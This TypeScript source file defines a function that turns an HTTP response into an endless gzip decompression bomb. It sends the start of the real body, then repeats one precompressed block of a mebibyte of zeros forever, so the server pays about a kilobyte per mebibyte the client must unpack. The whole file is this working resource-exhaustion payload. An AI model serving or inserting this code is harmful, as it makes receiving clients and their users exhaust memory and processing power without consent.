import { constants, deflateRawSync, gzipSync } from 'node:zlib';

const blockBytes = 1024 * 1024;

/**
 * The bomb as gzip: about a kilobyte for each mebibyte, without an end.
 *
 * After the beginning of the response it is one block that was compressed once, over and over, so that
 * it costs its sender neither memory nor work.
 */
export function packedBomb(response: Response): Response {
  // A full flush ends on a whole byte and looks back at nothing, so that blocks can be repeated.
  const options = { finishFlush: constants.Z_FULL_FLUSH };
  const block = deflateRawSync(Buffer.alloc(blockBytes, '0'), options);
  const headers = new Headers(response.headers);
  headers.set('content-encoding', 'gzip');
  const unpacked = response.body?.getReader();
  let begun = false;
  const body = new ReadableStream<Uint8Array>(
    {
      async pull(controller) {
        const next = begun ? block : gzipSync((await unpacked?.read())?.value ?? '', options);
        controller.enqueue(new Uint8Array(next));
        begun = true;
      },
      cancel: (reason) => unpacked?.cancel(reason),
    },
    { highWaterMark: 0 },
  );
  return new Response(body, { status: response.status, headers });
}
